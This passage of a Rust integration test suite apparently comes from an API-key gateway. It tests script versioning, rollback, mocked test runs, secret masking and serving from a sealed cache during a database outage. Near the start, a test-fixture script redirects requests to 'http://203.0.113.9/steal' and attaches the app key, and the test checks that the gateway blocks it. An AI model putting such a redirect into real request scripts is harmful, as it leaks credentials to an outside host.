        &[("AppKey", seed["app_key"].as_str().unwrap(), "utf8")],
    )
    .await;
    let (s, v) = out_ready(&kg, &st.key1, "POST", "/out/evil/x", &[], b"{}").await;
    assert_eq!((s, v["code"].as_str()), (500, Some("recipe_failed")), "{v}");
    assert!(!v.to_string().contains(seed["app_key"].as_str().unwrap()));
    let redirect =
        r#"function (h, p, b, AppKey) { h.setURI('http://203.0.113.9/steal'); h.set('x-k', AppKey); }"#;
    st.provider(
        "redir",
        base(&fake, &["POST /*"], json!({"type": "script", "source": redirect})),
        &[("AppKey", seed["app_key"].as_str().unwrap(), "utf8")],
    )
    .await;
    let (s, v) = out_ready(&kg, &st.key1, "POST", "/out/redir/x", &[], b"{}").await;
    assert_eq!((s, v["code"].as_str()), (502, Some("host_not_allowed")), "{v}");
    // A syntax error is refused when saved.
    let (s, v) = admin_call(
        st.admin,
        &st.token,
        "PUT",
        "/admin/providers/broken",
        Some(json!({"tenant_id": "t1", "config": base(&fake, &["POST /*"], json!({"type": "script", "source": "function (a, b, c) { if ( }"}))})),
    )
    .await;
    assert_eq!((s, v["field"].as_str()), (400, Some("config.recipe.source")), "{v}");
}

/// Every script save is a version; rollback is one call; a syntax error saves nothing; a test
/// run shows the outgoing request and the steps without contacting the provider or using the
/// real bindings.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn script_versions_rollback_and_test_runs() {
    let fc = fake_config();
    let fake = start_fake(&fc);
    let kg = start_keygate(&keygate_config("sqlite://{dir}/keygate.db", ""), &[]);
    let st = setup(&kg).await;
    let v = |n: u32| {
        format!("function (reqHeaders, reqParams, reqBody, ApiKey) {{ reqHeaders.set('x-v', '{n}'); reqHeaders.set('x-api-key', ApiKey); }}")
    };
    let static_key = fc["static_key"].as_str().unwrap();
    st.provider(
        "ver",
        base(&fake, &["GET /echo"], json!({"type": "script", "source": v(0)})),
        &[("ApiKey", static_key, "utf8")],
    )
    .await;
    let (s, r) = out_ready(&kg, &st.key1, "GET", "/out/ver/echo", &[], b"").await;
    assert_eq!((s, r["headers"]["x-v"].as_str()), (200, Some("0")), "{r}");

    for n in [1, 2] {
        let (s, r) = admin_call(
            st.admin,
            &st.token,
            "POST",
            "/admin/providers/ver/scripts",
            Some(json!({"source": v(n), "comment": format!("v{n}")})),
        )
        .await;
        assert_eq!((s, r["version"].as_i64()), (201, Some(i64::from(n))), "{r}");
    }
    let (s, r) = admin_call(
        st.admin,
        &st.token,
        "POST",
        "/admin/providers/ver/scripts",
        Some(json!({"source": "function (a, b, c) { if ( }"})),
    )
    .await;
    assert_eq!((s, r["field"].as_str()), (400, Some("config.recipe.source")), "{r}");
    let (_, list) = admin_call(st.admin, &st.token, "GET", "/admin/providers/ver/scripts", None).await;
    let list = list.as_array().unwrap();
    assert_eq!(list.len(), 2, "the broken save left no version");
    assert_eq!((list[1]["version"].as_i64(), list[1]["active"].as_bool()), (Some(2), Some(true)));
    let wait_for = |want: &'static str| {
        let kg = &kg;
        let key = &st.key1;
        async move {
            let t = Instant::now();
            loop {
                let (_, r) = out_call(kg, key, "GET", "/out/ver/echo", &[], b"").await;
                if r["headers"]["x-v"] == want {
                    return;
                }
                assert!(t.elapsed() < LOAD_WAIT, "x-v never became {want}: {r}");
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    };
    wait_for("2").await;
    let (s, r) =
        admin_call(st.admin, &st.token, "POST", "/admin/providers/ver/scripts/1/activate", None).await;
    assert_eq!((s, r["config"]["recipe"]["version"].as_i64()), (200, Some(1)), "{r}");
    wait_for("1").await;
    let (s, _) =
        admin_call(st.admin, &st.token, "POST", "/admin/providers/ver/scripts/9/activate", None).await;
    assert_eq!(s, 404);
    let (_, audit) = admin_call(st.admin, &st.token, "GET", "/admin/audit?limit=50", None).await;
    assert!(audit.as_array().unwrap().iter().any(|a| a["action"] == "provider.script.save"));

    // Test run of seed 000's script: token fetch mocked, nothing sent, real keys unused.
    let seed = &fc["seed"];
    let host = fake.addr.to_string();
    st.provider(
        "seedtest",
        base(&fake, &["POST /*"], json!({"type": "script", "source": SEED_SCRIPT,
            "vars": {"PrefixUrl": format!("http://{host}/seed/api"), "TokenUrl": format!("http://{host}/seed/token")}})),
        &[("AppKey", seed["app_key"].as_str().unwrap(), "utf8"), ("AesKey", seed["aes_key"].as_str().unwrap(), "utf8"), ("AesIV", seed["aes_iv"].as_str().unwrap(), "utf8")],
    )
    .await;
    let before = stats(&fake).await["requests"].as_u64().unwrap();
    let t = Instant::now();
    let report = loop {
        let (s, r) = admin_call(
            st.admin,
            &st.token,
            "POST",
            "/admin/providers/seedtest/test-run",
            Some(json!({
                "request": {"method": "POST", "path": "/pay", "headers": {"content-type": "application/json"},
                            "body": "{\"data\":\"{\\\"amount\\\":1}\",\"timestamp\":\"1764000000000\"}",
                            "bindings": {"AppKey": "test-app"}},
                "mocks": [{"url": format!("http://{host}/seed/token"), "body": "{\"code\":\"0\",\"data\":{\"accessToken\":\"T0K\",\"expireTime\":7200}}"}]
            })),
        )
        .await;
        // Until this replica has loaded the provider and all its bindings the run reports that.
        let loading = s != 200 || r["error"]["code"] == "binding_missing";
        if !loading || t.elapsed() > LOAD_WAIT {
            assert_eq!(s, 200, "{r}");
            break r;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["request"]["url"], format!("http://{host}/seed/api/pay"));
    let headers: Vec<(String, String)> =
        serde_json::from_value(report["request"]["headers"].clone()).unwrap();
    assert!(headers.contains(&("authorization".to_string(), "[masked]".to_string())), "{headers:?}");
    let body: Value = serde_json::from_str(report["request"]["body"].as_str().unwrap()).unwrap();
    assert_eq!(body["appKey"], "test-app", "the given test binding, not the real one");
    assert_eq!(body["sign"].as_str().unwrap().len(), 64);
    let trace: Vec<String> = serde_json::from_value(report["trace"].clone()).unwrap();
    assert!(trace[0].starts_with("token_load() → null"), "{trace:?}");
    assert!(trace.iter().any(|s| s.contains("mock 200")), "{trace:?}");
    assert!(trace.iter().any(|s| s.starts_with("token_save")), "{trace:?}");
    assert!(!report.to_string().contains(seed["app_key"].as_str().unwrap()));
    assert!(!report.to_string().contains(seed["aes_key"].as_str().unwrap()));
    assert_eq!(stats(&fake).await["requests"].as_u64().unwrap(), before, "a test run contacts no provider");
    // The same through the CLI.
    let case = kg.dir.path().join("test-run.json");
    std::fs::write(
        &case,
        json!({"request": {"path": "/pay", "body": "{\"data\":\"x\",\"timestamp\":\"1\"}"},
               "mocks": [{"url": format!("http://{host}/seed/token"), "body": "{\"data\":{\"accessToken\":\"T\",\"expireTime\":60}}"}]})
        .to_string(),
    )
    .unwrap();
    let admin_url = format!("http://{}", st.admin);
    let env = [("KEYGATE_ADMIN_URL", admin_url.as_str()), ("KEYGATE_ADMIN_TOKEN", st.token.as_str())];
    let (ok, out, err) = cli(&["providers", "test-run", "seedtest", "--file", case.to_str().unwrap()], &env);
    assert!(ok, "{err}");
    assert!(
        out.starts_with("ok: true") && out.contains("authorization: [masked]") && out.contains("token_save"),
        "{out}"
    );
    let (ok, out, err) = cli(&["providers", "scripts", "ver"], &env);
    assert!(ok && out.contains("true"), "{out}{err}");

    // Without a mock the script's fetch fails and the report says why.
    let (_, r) = admin_call(
        st.admin,
        &st.token,
        "POST",
        "/admin/providers/seedtest/test-run",
        Some(json!({"request": {"path": "/pay", "body": "{\"data\":\"x\"}"}})),
    )
    .await;
    assert_eq!((r["ok"].as_bool(), r["error"]["code"].as_str()), (Some(false), Some("recipe_failed")), "{r}");
    assert!(r["error"]["message"].as_str().unwrap().contains("no mock"), "{r}");

    // A response hook reshapes what the caller gets.
    st.provider(
        "hooked",
        base(&fake, &["GET /echo"], json!({"type": "script", "source": v(7),
            "response_source": "function (respHeaders, respBody, status) { respBody.set('status_seen', status); respBody.delete('headers'); respHeaders.set('x-hooked', 'yes'); }"})),
        &[("ApiKey", static_key, "utf8")],
    )
    .await;
    let (s, r) = out_ready(&kg, &st.key1, "GET", "/out/hooked/echo", &[], b"").await;
    assert_eq!((s, r["status_seen"].as_i64()), (200, Some(200)), "{r}");
    assert!(r.get("headers").is_none(), "{r}");
}

/// A replica restarted while the store is down serves providers from its sealed snapshot cache
/// (seed 000: restart falls back to cached configuration), secrets included.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn providers_survive_a_restart_during_a_store_outage() {
    let db = PgDb::create("kg_outcache");
    let name = db.name.clone();
    let fc = fake_config();
    let fake = start_fake(&fc);
    let url = format!("postgres://postgres@127.0.0.1:5432/{name}");
    let cfg = keygate_config(&url, "")
        .replace("snapshot_cache = \"\"", "snapshot_cache = \"{dir}/snapshot.cache\"");
    let mut kg = start_keygate(&cfg, &[]);
    let st = setup(&kg).await;
    let static_key = fc["static_key"].as_str().unwrap();
    st.provider(
        "maps",
        base(&fake, &["GET /static/*"], json!({"type": "static_header", "header": "x-api-key"})),
        &[("api_key", static_key, "utf8")],
    )
    .await;
    let (s, v) = out_ready(&kg, &st.key1, "GET", "/out/maps/static/x", &[], b"").await;
    assert_eq!(s, 200, "{v}");
    // The reload that gave this replica the provider wrote the cache (keys and providers) first.
    let kept = std::mem::replace(&mut kg.dir, tempfile::tempdir().unwrap());
    let dir = kept.path().to_path_buf();
    let raw = std::fs::read(dir.join("snapshot.cache")).unwrap();
    assert!(!raw.windows(static_key.len()).any(|w| w == static_key.as_bytes()), "cache is sealed");
    drop(kg);

    let dead =
        cfg.replace(&url, "postgres://kg:hunter2@127.0.0.1:1/none").replace("{dir}", dir.to_str().unwrap());
    let cfg_path = dir.join("outage.toml");
    std::fs::write(&cfg_path, &dead).unwrap();
    let kg2 = start_with(tempfile::tempdir().unwrap(), &cfg_path, &[]);
    let (s, v) = out_call(&kg2, &st.key1, "GET", "/out/maps/static/x", &[], b"").await;
    assert_eq!(s, 200, "served from the cached providers: {v}");
    assert!(kg2.logs().contains("snapshot cache"), "{}", kg2.logs());
    drop(kept);
}
